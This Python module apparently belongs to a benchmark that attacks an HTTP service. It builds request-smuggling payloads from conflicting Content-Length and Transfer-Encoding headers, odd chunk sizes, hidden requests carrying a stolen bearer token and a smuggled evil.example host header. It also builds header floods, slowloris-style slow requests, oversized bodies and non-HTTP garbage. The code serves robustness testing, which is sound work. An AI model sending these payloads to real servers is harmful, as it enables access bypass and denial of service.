"""Attacks below the meaning of a request: framing that can be read in two ways, floods, garbage, slowness, size."""

from benchmarks.attack.shots import SMUGGLED, Aim, Header, Kind, Shot, Work, chunked, head, rest, work, written

_MIB = 1 << 20
_SMUGGLING_LINGER = 0.25
_SLOW_SECONDS = 45.0
_HEAD_SECONDS = 90.0
_NINE_MIB = chunked(*[b" " * 65_536] * 144)
_TLS_HELLO = bytes.fromhex(
    "16030100c8010000c40303" + "ab" * 32 + "20" + "cd" * 32 + "0006130113021303" + "0100" + "0075000b000403000102"
)
_TE_SPELLINGS: tuple[bytes, ...] = (
    b"Transfer-Encoding : chunked",
    b"Transfer-Encoding:\x0bchunked",
    b"Transfer-Encoding: xchunked",
    b"Transfer-Encoding: chunked, identity",
    b"Transfer-Encoding: identity",
    b"Transfer-Encoding: identity, chunked",
    b'Transfer-Encoding: "chunked"',
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked",
    b"X: y\r\n Transfer-Encoding: chunked",
    b" Transfer-Encoding: chunked",
    b"X: y\nTransfer-Encoding: chunked",
    b"X: y\rTransfer-Encoding: chunked",
    b"X: y\x00\r\nTransfer-Encoding: chunked",
    b"Transfer_Encoding: chunked",
    b"Transfer-Encoding\x00: chunked",
    b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \xffchunked",
    b"transfer-encoding: CHUNKED",
    b"Transfer-Encoding: chunked;q=1",
    b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    b"TE: chunked\r\nTransfer-Encoding:",
)
_LENGTHS: tuple[bytes, ...] = (
    b"+%d",
    b"-%d",
    b"0x%x",
    b"%d,0",
    b"0, %d",
    b"%d %d",
    b" %d\x0b",
    b"%d.0",
    b"%de0",
    b"00000000000000000000%d",
    b"18446744073709551616%d",
    b"%d;",
    b"'%d'",
    b"\xb2%d",
)
_CHUNK_SIZES: tuple[bytes, ...] = (
    b"5 ",
    b"0x5",
    b"+5",
    b"-5",
    b"5;a=b\n",
    b"5;\x00",
    b"FFFFFFFFFFFFFFFF1",
    b"10000000000000000",
    b"",
    b"g",
    b"5\r",
    b"\xff",
    b"5_0",
    b"5,5",
    b"5\x00",
)


def hidden(aim: Aim) -> bytes:
    """A whole request with a good key, as it would be carried out if anybody took it for one."""
    stranger = Aim(aim.service, aim.port, (), aim.stolen, aim.canary, aim.random)
    marks: list[Header] = [
        ("Authorization", f"Bearer {aim.stolen}"),
        ("X-Request-Id", f"{SMUGGLED}{aim.random.getrandbits(40):010x}"),
    ]
    return written(stranger, work(stranger), marks)


def length_and_chunked(aim: Aim) -> Shot:
    """Content-Length says that the hidden request is body, Transfer-Encoding that it is the next; and the other way."""
    inside = hidden(aim)
    if aim.random.random() < 0.5:
        return _front(aim, [b"Transfer-Encoding: chunked"], b"0\r\n\r\n" + inside)
    body = chunked(inside)
    short = len(b"%x\r\n" % len(inside))
    return _front(aim, [b"Content-Length: %d" % short, b"Transfer-Encoding: chunked"], body, length=False)


def odd_transfer_encoding(aim: Aim) -> Shot:
    """Transfer-Encoding so written that some read it and others do not, beside a Content-Length over all."""
    return _front(aim, [aim.random.choice(_TE_SPELLINGS)], b"0\r\n\r\n" + hidden(aim))


def two_lengths(aim: Aim) -> Shot:
    """Two Content-Lengths, or one that is no number to everybody."""
    inside = hidden(aim)
    size = len(inside)
    lines = aim.random.choice(
        [
            [b"Content-Length: 0", b"Content-Length: %d" % size],
            [b"Content-Length: %d" % size, b"Content-Length: 0"],
            [b"Content-Length : %d" % size],
            [b"Content-Length: 0", b"Content-Length : %d" % size],
            [b"Content-Length: 0\nContent-Length: %d" % size],
            [b"Content-Length:\r\n %d" % size],
            [b"Content-Length: 0", b"X: y\r\n Content-Length: %d" % size],
            [b"Content-Length: " + _length(aim.random.choice(_LENGTHS), size)],
        ]
    )
    return _front(aim, lines, inside, length=False)


def odd_chunks(aim: Aim) -> Shot:
    """Chunk sizes that can be read in two ways, ends that are none, and headers behind the body."""
    size, inside = aim.random.choice(_CHUNK_SIZES), hidden(aim)
    body = aim.random.choice(
        [
            size + b"\r\nhello\r\n0\r\n\r\n" + inside,
            b"5\nhello\n0\n\n" + inside,
            b"5\r\nhelloXX0\r\n\r\n" + inside,
            b"5\r\nhello\r\n0\r\nContent-Length: %d\r\nHost: evil.example\r\n" % len(inside) + inside,
            b"5\r\nhello\r\n0\r\n" + b"T: x\r\n" * 20_000 + b"\r\n",
            b"1\r\nx\r\n" * 10_000 + b"0\r\n\r\n",
        ]
    )
    return _front(aim, [b"Transfer-Encoding: chunked"], body, length=False)


def odd_version(aim: Aim) -> Shot:
    """Versions and request lines in which it is unclear where a request ends."""
    inside, target = hidden(aim), work(aim).target.encode()
    host = b"Host: " + aim.host.encode() + b"\r\n"
    sized = b"Content-Length: %d\r\n\r\n" % len(inside) + inside
    pieces = (
        b"POST " + target + b" HTTP/1.0\r\n" + host + b"Transfer-Encoding: chunked\r\n" + sized,
        b"POST " + target + b"\r\n" + host + sized,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"POST " + target + b" HTTP/1.1 HTTP/1.1\r\n" + host + sized,
        b"POST " + target + b" HTTP/9.9\r\n" + host + sized,
        b"POST " + target + b" http/1.1\r\n" + host + sized,
        b"POST\t" + target + b"\tHTTP/1.1\r\n" + host + sized,
        b"\r\n\r\n POST " + target + b" HTTP/1.1\r\n" + host + sized,
        b"POST " + target + b" HTTP/1.1\r\n\r\n" + b"x" * 10,
        b"POST "
        + target
        + b" HTTP/1.1\n"
        + host.replace(b"\r", b"")
        + b"Content-Length: %d\n\n" % len(inside)
        + inside,
        b"POST " + target + b" HTTP/1.1\r\n" + host + b"\x00: x\r\n" + sized,
        b"POST " + target + b" HTTP/1.1\r\n" + host + b": x\r\n" + sized,
    )
    return Shot((aim.random.choice(pieces),), linger=_SMUGGLING_LINGER)


def upgrade(aim: Aim) -> Shot:
    """Offers to go on in another protocol, or to be a tunnel, with a request behind it."""
    inside = hidden(aim)
    protocol = aim.pick(("h2c", "websocket", "TLS/1.3", "x" * 500))
    lines = [
        b"Connection: Upgrade, HTTP2-Settings",
        b"Upgrade: " + protocol.encode(),
        b"HTTP2-Settings: AAMAAABkAAQAoAAA",
    ]
    if aim.random.random() < 0.2:
        return _front(aim, [*lines, b"Transfer-Encoding: chunked"], b"0\r\n\r\n" + inside)
    if aim.random.random() < 0.2:
        start = head(f"CONNECT {aim.host} HTTP/1.1", [("Host", aim.host), ("Content-Length", str(len(inside)))])
        return Shot((start + inside,), linger=_SMUGGLING_LINGER)
    return _front(aim, [*lines, b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="], inside)


def body_of_a_get(aim: Aim) -> Shot:
    """A body where nobody looks for one: it is no second request."""
    inside = hidden(aim)
    method, path = (
        aim.pick(("GET", "HEAD", "OPTIONS", "DELETE")),
        "/health" if aim.random.random() < 0.5 else work(aim).target,
    )
    lines: list[Header] = [("Host", aim.host), *aim.credentials(), ("Content-Length", str(len(inside)))]
    if aim.random.random() < 0.3:
        lines.append(("Expect", "100-continue"))
    return Shot((head(f"{method} {path} HTTP/1.1", lines) + inside,), linger=_SMUGGLING_LINGER)


def pipeline(aim: Aim) -> Shot:
    """Many requests at once on one connection, each of which has to be refused by itself."""
    one = written(aim, work(aim), closes=False)
    return Shot((one * aim.random.choice([2, 5, 30]) + written(aim, work(aim)),), linger=0.1)


def many_headers(aim: Aim) -> Shot:
    """Up to 20,000 of them, or few that hold a megabyte."""
    count, size = aim.random.choice(
        [(100, 500), (1_000, 10), (20_000, 5), (1, 60_000), (1, 70_000), (1, _MIB), (3, 30_000)]
    )
    name = aim.pick(("X-Flood", "Cookie", "Authorization", "X-Forwarded-For", "Accept", "Host", "Mcp-Session-Id"))
    numbered = aim.random.random() < 0.5 and name == "X-Flood"
    flood: list[Header] = [(f"{name}-{number}" if numbered else name, "a" * size) for number in range(count)]
    if aim.random.random() < 0.1:
        flood = [("N" * size, "a")]
    return Shot((written(aim, work(aim), flood),))


def garbage(aim: Aim) -> Shot:
    """What is no HTTP: a TLS hello, other protocols, chance."""
    pieces = (
        _TLS_HELLO,
        b"SSH-2.0-x\r\n",
        b"EHLO x\r\n",
        b"\x00" * 4_096,
        b"\xff" * 70_000,
        b"GET",
        aim.random.randbytes(aim.random.randrange(1, 4_096)),
        b"A" * 200_000,
        b"GET / HTTP/1.1\r\n" + b"\x80" * 900 + b"\r\n\r\n",
        b'{"jsonrpc": "2.0"}\n',
        b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n",
        b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n",
    )
    return Shot((aim.random.choice(pieces) + b"\r\n\r\n",), patience=_HEAD_SECONDS)


def slow_head(aim: Aim) -> Shot:
    """A head that never ends, a header at a time."""
    start = b"POST " + work(aim).target.encode() + b" HTTP/1.1\r\nHost: " + aim.host.encode() + b"\r\n"
    return Shot(
        (start, *[b"X-Slow: a\r\n"] * 100), pause=1.0, linger=_HEAD_SECONDS, patience=_HEAD_SECONDS, must_end=True
    )


def silence(aim: Aim) -> Shot:
    """A connection on which nothing is said, or the beginning of a line."""
    start = aim.random.choice([b"", b"P", b"POST /", b"\r\n" * 2_000])
    return Shot((start,), linger=_HEAD_SECONDS, patience=_HEAD_SECONDS, must_end=True)


def slow_body(aim: Aim) -> Shot:
    """A body that never ends, a byte at a time; with a key it is waited for."""
    lines: list[Header] = [*work(aim).headers, ("Content-Length", "5000")]
    if aim.random.random() < 0.5:
        lines[-1] = ("Transfer-Encoding", "chunked")
    piece = b"1\r\n{\r\n" if lines[-1][0] == "Transfer-Encoding" else b"{"
    start = written(aim, Work("POST", work(aim).target, (), b""), lines, closes=False, length=False)
    return Shot((start, *[piece] * 60), pause=1.0, linger=_SLOW_SECONDS, patience=_SLOW_SECONDS, must_end=True)


def short_body(aim: Aim) -> Shot:
    """Less than was announced, and then nothing, or the end of the connection."""
    asked = work(aim)
    lines: list[Header] = [*asked.headers, ("Content-Length", str(len(asked.body) + 100))]
    whole = written(aim, Work("POST", asked.target, (), b""), lines, closes=False, length=False) + asked.body
    return Shot((whole[: aim.random.randrange(20, len(whole))],), patience=0.5, leaves=True)


def announced_too_large(aim: Aim) -> Shot:
    """9 MiB to many times all memory, announced, of which some comes."""
    size = aim.random.choice([9 * _MIB, 1 << 31, 1 << 40, (1 << 63) - 1])
    lines: list[Header] = [*work(aim).headers, ("Content-Length", str(size))]
    start = written(aim, Work("POST", work(aim).target, (), b""), lines, length=False)
    return Shot((start + b"[" * 60_000,))


def too_large(aim: Aim) -> Shot:
    """9 MiB in chunks that nobody has announced."""
    lines: list[Header] = [*work(aim).headers, ("Transfer-Encoding", "chunked")]
    start = written(aim, Work("POST", work(aim).target, (), b""), lines, length=False)
    return Shot((start, _NINE_MIB))


def _front(aim: Aim, lines: list[bytes], body: bytes, *, length: bool = True) -> Shot:
    """A request that stays on its connection, with header lines written as they are, and a body."""
    asked = work(aim) if aim.random.random() < 0.7 else rest("POST", "/health")
    needed: list[Header] = [("Host", aim.host), *asked.headers, *aim.credentials()]
    if length:
        needed.append(("Content-Length", str(len(body))))
    start = head(f"POST {asked.target} HTTP/1.1", needed)[: -len(b"\r\n")]
    return Shot((start + b"\r\n".join([*lines, b"", b""]) + body,), linger=_SMUGGLING_LINGER)


def _length(pattern: bytes, size: int) -> bytes:
    return pattern % ((size,) * pattern.count(b"%"))


FRAMES = (
    Kind("smuggling: length and chunked", length_and_chunked, 5),
    Kind("smuggling: odd Transfer-Encoding", odd_transfer_encoding, 8),
    Kind("smuggling: two or odd lengths", two_lengths, 7),
    Kind("smuggling: odd chunks", odd_chunks, 5),
    Kind("smuggling: odd versions and lines", odd_version, 5),
    Kind("smuggling: upgrades and tunnels", upgrade, 4),
    Kind("smuggling: bodies of GET", body_of_a_get, 4, may_succeed=True),
    Kind("pipelines", pipeline, 2),
    Kind("header floods", many_headers, 4),
    Kind("garbage, TLS, other protocols", garbage, 4),
    Kind("bodies cut short", short_body, 3),
    Kind("announced as too large", announced_too_large, 2),
    Kind("too large, unannounced", too_large, 0.4),
)
"""With a key and without one."""

SLOW_HEADS = (
    Kind("slow heads", slow_head, 0.7),
    Kind("silent connections", silence, 0.5),
)
"""What takes a minute until it is ended."""

SLOW_BODIES = (Kind("slow bodies", slow_body, 0.7),)
"""What takes half a minute until it is ended."""
